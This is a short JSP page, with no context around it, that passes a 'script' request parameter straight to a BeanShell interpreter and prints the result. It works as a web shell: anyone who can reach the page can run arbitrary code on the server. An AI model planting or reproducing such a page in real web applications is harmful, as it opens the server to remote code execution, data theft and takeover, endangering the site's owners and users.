<%@ page import="bsh.Interpreter" %>
<%
    Interpreter shell = new Interpreter();
    shell.set("out", out);
    shell.set("request", request);
    String script = request.getParameter("script");
    if (script != null) {
        Object result = shell.eval(script);
        out.print(result);
    }
%>
